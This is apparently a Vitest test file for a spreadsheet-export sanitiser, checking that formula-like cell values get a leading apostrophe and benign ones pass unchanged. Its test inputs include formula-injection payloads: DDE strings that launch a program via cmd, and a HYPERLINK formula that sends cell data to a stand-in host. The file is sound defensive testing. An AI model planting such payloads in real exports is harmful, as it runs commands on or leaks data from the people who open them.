import { expect, test } from 'vitest';

import { formulaSafe } from './export.ts';

test.each([
  '=1+1',
  '=HYPERLINK("http://example.test/?leak="&A1,"Invoice")',
  "=cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '+91 98200 11111',
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  '-5',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=',
])('%j gets an apostrophe', (text) => {
  expect(formulaSafe(text)).toBe(`'${text}`);
});

test.each(['', 'Cement OPC 53', '12 mm = 1/2 inch', "'=1+1", '(=1+1)', '00123', 'a@b.test', '1-2'])(
  '%j stays as it is',
  (text) => {
    expect(formulaSafe(text)).toBe(text);
  },
);
